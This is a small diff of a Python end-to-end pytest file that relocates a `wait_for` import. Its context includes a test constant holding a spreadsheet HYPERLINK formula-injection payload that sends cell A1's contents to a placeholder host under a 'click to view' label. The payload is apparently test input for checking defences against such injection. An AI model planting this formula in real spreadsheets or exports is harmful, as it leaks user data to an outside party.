@@ -12,10 +12,10 @@ from pathlib import Path
 import pytest
 import requests
 
-from shared.testing import wait_for
 from tests.conftest import bearer
 from tests.e2e.conftest import running_system, system_env
 from tests.e2e.test_system import jpeg_bytes
+from tests.support import wait_for
 
 pytestmark = pytest.mark.e2e
 FORMULA = '=HYPERLINK("http://x/?"&A1,"点击查看")'
